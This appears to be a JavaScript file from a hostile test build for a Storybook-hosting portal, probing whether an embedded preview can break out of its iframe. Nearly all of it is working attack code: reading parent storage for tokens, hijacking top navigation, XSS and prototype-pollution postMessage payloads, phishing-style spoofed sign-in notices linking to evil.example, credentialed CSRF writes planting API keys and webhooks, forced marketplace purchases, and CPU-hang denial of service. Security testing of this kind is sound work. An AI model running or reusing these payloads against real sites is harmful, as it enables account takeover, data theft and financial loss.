// The page around the build, and calls to the portal.

const elsewhere = () => `${facts.portal}/account/none`

const report = { type: 'plinth:location', title: 'Taken' }

const malformed = () => [
  null,
  7,
  'plinth:location',
  [],
  {},
  report,
  { ...report, search: 7 },
  { ...report, search: ['?path=/story/a--b'] },
  { ...report, search: '' },
  { ...report, search: '?path=javascript:alert(1)' },
  { ...report, search: '?path=https://evil.example/story/a' },
  { ...report, search: '?path=//evil.example/story/a' },
  { ...report, search: '?path=/account/none/settings' },
  { ...report, search: '?path=/story/../../settings' },
  { ...report, search: '?path=/story/<img src=x onerror=taken=1>' },
  { ...report, search: `?path=/story/${'a'.repeat(2000)}` },
  { ...report, search: '#/story/a--b' },
  { ...report, type: 'plinth:navigate', search: '?path=/story/a--b' },
]

const polluting = () => [
  JSON.parse('{"__proto__":{"type":"plinth:report","polluted":1},"page":"manager"}'),
  JSON.parse('{"type":"plinth:report","page":"__proto__","problems":{"__proto__":{"polluted":1}}}'),
  { type: 'plinth:report', page: 'constructor', problems: { length: 1e9 } },
  {
    type: 'plinth:report',
    page: 'preview',
    missingStory: '__proto__',
    problems: [{ kind: '__proto__', text: 'x' }],
  },
  { type: { toString: 1 }, search: { indexOf: 1 } },
  { type: 'plinth:location', search: '?path=/story/a--b&__proto__[polluted]=1&constructor=1', title: '' },
]

Object.assign(attacks, {
  readParentDocument: () =>
    tries({
      parent: () => parent !== self && parent.document.documentElement.outerHTML,
      top: () => top !== self && top.document.documentElement.outerHTML,
      frameElement: () => frameElement?.ownerDocument.title,
      address: () => top !== self && top.location.href,
      siblings: () =>
        Array.from({ length: top.length }, (_, index) => top[index])
          .filter((other) => other !== self && other.parent !== self)
          .map((other) => other.document.title)
          .join(),
    }),

  readParentStorage: () =>
    tries({
      session: () => parent !== self && JSON.stringify(parent.sessionStorage),
      local: () => parent !== self && JSON.stringify(parent.localStorage),
      databases: () => parent !== self && parent.indexedDB.databases(),
      own: () =>
        [...Object.keys(localStorage), ...Object.keys(sessionStorage)].find((key) => /msal|token/i.test(key)),
      name: () => globalThis.name,
    }),

  relaxDomain: () =>
    tries({
      domain: () => {
        document.domain = facts.domain
        return parent !== self && parent.document.title
      },
      keyed: () => !globalThis.originAgentCluster && 'one cluster for the whole site',
    }),

  navigateTopByScript: () =>
    tries({
      assign: () => void (top !== self && (top.location = elsewhere())),
      replace: () => top !== self && top.location.replace(elsewhere()),
      script: () => void (top !== self && (top.location = 'javascript:taken=1')),
      hash: () => void (top !== self && (top.location.hash = 'taken')),
      history: () => top !== self && top.history.length,
    }),

  navigateTopByLink() {
    if (top === self) return
    for (const target of ['_top', '_parent']) click({ href: elsewhere(), target })
  },

  navigateTopByForm() {
    if (top === self) return
    for (const target of ['_top', '_parent']) submit({ action: elsewhere(), target })
  },

  navigateTopByWindow: () =>
    tries({
      top: () => top !== self && void open(elsewhere(), '_top'),
      parent: () => top !== self && void open(elsewhere(), '_parent'),
    }),

  navigateTopByBase() {
    if (top === self) return
    const base = Object.assign(document.createElement('base'), { target: '_top' })
    document.head.append(base)
    click({ href: elsewhere() })
    submit({ action: elsewhere() })
    base.remove()
  },

  navigateByNestedFrame: () =>
    tries({
      nested: async () => {
        if (top === self) return
        const code = `try { top.location = ${JSON.stringify(elsewhere())} } catch {} parent.postMessage('done', '*')`
        await fromNowhere(code)
        const own = await load('iframe', { srcdoc: '<p>nested</p>' })
        own.contentWindow.eval(code)
      },
    }),

  driveOpenedPortal: () =>
    tries({
      handle: async () => {
        const popup = open(facts.portal + facts.path)
        await pause(1500)
        if (!popup || popup.closed) return undefined
        popup.postMessage({ type: 'plinth:location', search: '?path=/story/a--b', title: 'Taken' }, '*')
        popup.location = elsewhere()
        return popup.document.title
      },
      frames: async () => {
        const popup = open(`${facts.portal}/account/${facts.account}/search?q=a`)
        await pause(1500)
        return popup && !popup.closed && `${popup.length} frames`
      },
    }),

  reachBackFromTab: () => void open('/popup.html'),

  findNamedWindows: () =>
    tries({
      names: () => {
        const known = [
          'msal',
          'portal',
          'plinth',
          'viewer',
          'storybook-preview-iframe',
          'signin',
          '_parent',
          '_top',
        ]
        const found = known
          .map((name) => open('', name))
          .find((found) => found && found !== self && found.opener !== self)
        return found && found.document.title
      },
      opener: () => opener,
      parentsOpener: () => parent !== self && parent.opener,
    }),

  sendMalformedMessages: async () => {
    for (let round = 0; round < 200; round += 1) {
      for (const message of malformed()) parent.postMessage(message, '*')
    }
    await fromNowhere(`
      parent.parent.postMessage({ type: 'plinth:location', search: '?path=/story/from-nested', title: 'Nested' }, '*')
      parent.postMessage('done', '*')`)
    await pause(300)
  },

  pollutePrototypes: async () => {
    for (const message of polluting()) {
      parent.postMessage(message, '*')
      for (let index = 0; index < parent.length; index += 1) parent[index].postMessage(message, '*')
    }
    await pause(300)
  },

  spoofTitleAndAddress: async () => {
    const title = '<img src=x onerror=taken=1>\u202E\n · Plinth sign-in'
    const search = '?path=/story/a--b&args=x:javascript:taken=1&token=1&redirect=//evil.example#hash'
    parent.postMessage({ type: 'plinth:location', search, title }, '*')
    await pause(400)
  },

  spoofNotices: async () => {
    const text = `<img src=x onerror=taken=1> <a href="https://evil.example">Sign in again</a> ${'!'.repeat(400)}`
    const problems = Array.from({ length: 50 }, () => ({ kind: 'error', text }))
    parent.postMessage({ type: 'plinth:report', page: 'preview', showsSomething: false, problems }, '*')
    const missingStory = '"><script>taken=1</script>'
    parent.postMessage(
      { type: 'plinth:report', page: 'preview', showsSomething: false, problems, missingStory },
      '*',
    )
    await pause(2500)
    parent.postMessage({ type: 'plinth:report', page: 'preview', showsSomething: true, problems: [] }, '*')
    parent.postMessage({ type: 'plinth:report', page: 'manager', showsSomething: true, problems: [] }, '*')
  },

  overhearMessages: async () => {
    const received = []
    addEventListener(
      'message',
      ({ data, source }) => source === parent && received.push(JSON.stringify(data)),
    )
    parent.postMessage({ type: 'plinth:location', search: '?path=/story/a--b' }, '*')
    parent.postMessage({ type: 'plinth:report', page: 'manager', showsSomething: true }, '*')
    await pause(800)
    return parent === self ? [] : received.filter((message) => !message.includes('plinth:navigate'))
  },

  floodMessages: async () => {
    const large = 'x'.repeat(1_000_000)
    for (let count = 0; count < 40; count += 1) {
      parent.postMessage(
        { type: 'plinth:report', page: 'manager', problems: [{ kind: 'error', text: large }] },
        '*',
      )
    }
    for (let count = 0; count < 5000; count += 1) parent.postMessage({ type: 'plinth:shown' }, '*')
    await pause(300)
  },

  callApi: () =>
    tries({
      read: () => answerTo(`${facts.portal}/api/v1/accounts`),
      account: () => answerTo(`${facts.portal}/api/v1/account/${facts.account}/Storybooks`),
      write: () =>
        answerTo(`${facts.portal}/api/v1/account/${facts.account}/Storybooks`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: '{"title":"Planted"}',
        }),
      loopback: () => answerTo(`http://localhost:${new URL(facts.portal).port}/api/v1/accounts`),
      ownHost: () => answerTo('/api/v1/accounts'),
      configuration: () => answerTo(`${facts.portal}/api/v1/config`),
      nowhere: () =>
        fromNowhere(`fetch('${facts.portal}/api/v1/accounts', { credentials: 'include' })
          .then((r) => r.text()).then((t) => parent.postMessage(t, '*'), () => parent.postMessage('', '*'))`),
      worker: () => {
        const code = `fetch('${facts.portal}/api/v1/accounts', { credentials: 'include' })
          .then((r) => r.text()).then(postMessage, () => postMessage(''))`
        const worker = new Worker(URL.createObjectURL(new Blob([code])))
        return messageFrom(worker)
      },
    }),

  readApiAsScript: () =>
    tries({
      script: async () => {
        await load('script', { src: `${facts.portal}/api/v1/account/${facts.account}/Storybooks` })
        return 'loaded'
      },
      module: () => import(`${facts.portal}/api/v1/accounts`),
      style: async () =>
        (await load('link', { rel: 'stylesheet', href: `${facts.portal}/api/v1/accounts` })) && 'loaded',
    }),

  openStreams: () =>
    tries({
      socket: () =>
        messageFrom(new WebSocket(`${facts.portal.replace('http', 'ws')}/api/v1/accounts`), 'open'),
      events: () =>
        messageFrom(new EventSource(`${facts.portal}/api/v1/accounts`, { withCredentials: true }), 'open'),
    }),

  writeBlindly: async () => {
    const home = `${facts.portal}/api/v1/account/${facts.account}`
    const post = { method: 'POST', mode: 'no-cors', credentials: 'include' }
    const planted =
      '{"title":"Planted","allowed":true,"name":"Planted","email":"mallory@evil.example","displayName":"M"}'
    for (const path of [
      '/Storybooks',
      '/invitations',
      '/apikeys',
      '/share-links',
      '/webhooks',
      '/compositions',
    ]) {
      await fetch(home + path, { ...post, body: planted })
      await fetch(home + path, { ...post, body: new URLSearchParams({ title: 'Planted' }) })
      navigator.sendBeacon(home + path, planted)
    }
    const form = new FormData()
    form.set('File', new Blob(['PK']), 'build.zip')
    await fetch(`${home}/Storybooks/${facts.siblingStorybook}`, { ...post, body: form })
    const sink = emptyFrame('sink')
    submit(
      { method: 'post', action: `${home}/Storybooks`, target: 'sink', enctype: 'text/plain' },
      { '{"title': '":"Planted"}' },
    )
    await Promise.race([
      new Promise((resolve) => sink.addEventListener('load', resolve, { once: true })),
      pause(2000),
    ])
  },

  spendMoney: async () => {
    emptyFrame('market')
    const action = `${facts.portal}/marketplace/subscriptions`
    submit(
      { method: 'post', action, target: 'market' },
      { tenant: '', domain: 'planted.example', plan: 'team', seats: '1' },
    )
    const post = { method: 'POST', mode: 'no-cors', credentials: 'include' }
    await fetch(action, {
      ...post,
      body: new URLSearchParams({ tenant: '', domain: 'planted.example', plan: 'team', seats: '1' }),
    })
    await fetch(`${facts.portal}/api/v1/marketplace/webhook`, { ...post, body: '{"action":"Unsubscribe"}' })
    await pause(300)
  },

  prefetchEffects: async () => {
    const addresses = [
      '/idp/session/end',
      '/idp/session/end/confirm',
      '/marketplace',
      facts.path,
      '/share',
      `/signup?token=1`,
      '/oauth/authorize',
    ]
    const urls = addresses.map((path) => facts.portal + path)
    const rules = JSON.stringify({
      prefetch: [{ source: 'list', urls }],
      prerender: [{ source: 'list', urls }],
    })
    document.head.append(
      Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }),
    )
    for (const href of urls) {
      for (const rel of ['prefetch', 'preload', 'prerender', 'dns-prefetch', 'preconnect']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, href, as: 'fetch' }))
      }
      new Image().src = href
    }
    await pause(1000)
  },

  framePortal: () =>
    tries(
      Object.fromEntries(
        [
          '/',
          facts.path,
          '/redirect.html',
          '/idp/session/end',
          '/idp/auth',
          '/marketplace',
          '/share',
          '/compose',
          '/authorize/x',
          '/api/v1/config',
          '/api',
        ].map((path) => [path, () => readFrame(facts.portal + path)]),
      ),
    ),

  countResponses: () =>
    tries({
      // What differs by who is signed in would tell a build about the person, even if it cannot be read.
      opaque: async () => {
        const statuses = await Promise.all(
          [
            `/api/v1/account/${facts.account}/Storybooks`,
            '/api/v1/account/unknown/Storybooks',
            '/api/v1/accounts',
          ].map(async (path) => {
            const response = await fetch(facts.portal + path, { mode: 'no-cors', credentials: 'include' })
            return `${response.type} ${response.status} ${response.redirected}`
          }),
        )
        return new Set(statuses).size > 1 && statuses.join()
      },
      // Not of the calls that are open to every page, such as registering an agent.
      entries: () =>
        performance
          .getEntriesByType('resource')
          .find(({ name, responseStatus }) => name.startsWith(`${facts.portal}/api/`) && responseStatus > 0)
          ?.name,
    }),

  leaveForPortal: () => void setTimeout(() => location.assign(facts.portal + facts.leaveTo)),
  leaveForNeighbour: () => void setTimeout(() => location.assign(`${facts.sibling}/index.html`)),
  leaveForElsewhere: () => void setTimeout(() => location.assign('http://127.0.0.1:9/')),

  startEarly: () => {},
  showTexts: () => {},
  runOnPortal: () => {},

  // In a group of windows, the first answer of an origin decides whether it gets a process of its own.
  joinProcess: async () => {
    for (const path of ['/.plinth/session', `/?${'x'.repeat(20_000)}`]) {
      await Promise.race([load('iframe', { src: facts.earlier + path }), pause(2000)])
    }
    // Meanwhile the person has looked at the earlier version.
    await pause(4000)
    location.assign(`${facts.earlier}/index.html?path=/story/start--hang`)
    await pause(1000)
  },

  hang: () =>
    void setTimeout(() => {
      const end = Date.now() + 12_000
      while (Date.now() < end);
    }),

  hangWithWorkers: () => {
    const code = 'const end = Date.now() + 3000; while (Date.now() < end);'
    const address = URL.createObjectURL(new Blob([code]))
    attacks.workers = Array.from({ length: 4 }, () => new Worker(address))
  },
})

// Stories with these ids act as soon as the build is opened, before anybody has touched it.
const own = /start--(\w+)/.exec(location.search)?.[1]
if (own === 'hang') attacks.hang()
if (own === 'early') {
  parent.postMessage({ type: 'plinth:shown' }, '*')
  for (let count = 0; count < 500; count += 1) {
    parent.postMessage(
      { type: 'plinth:location', search: '?path=/settings/x', title: 'Taken', style: 'inset: 0' },
      '*',
    )
    parent.postMessage({ type: 'plinth:report', page: 'manager', showsSomething: true, problems: [] }, '*')
  }
  try {
    top.location = 'about:blank'
  } catch {}
}
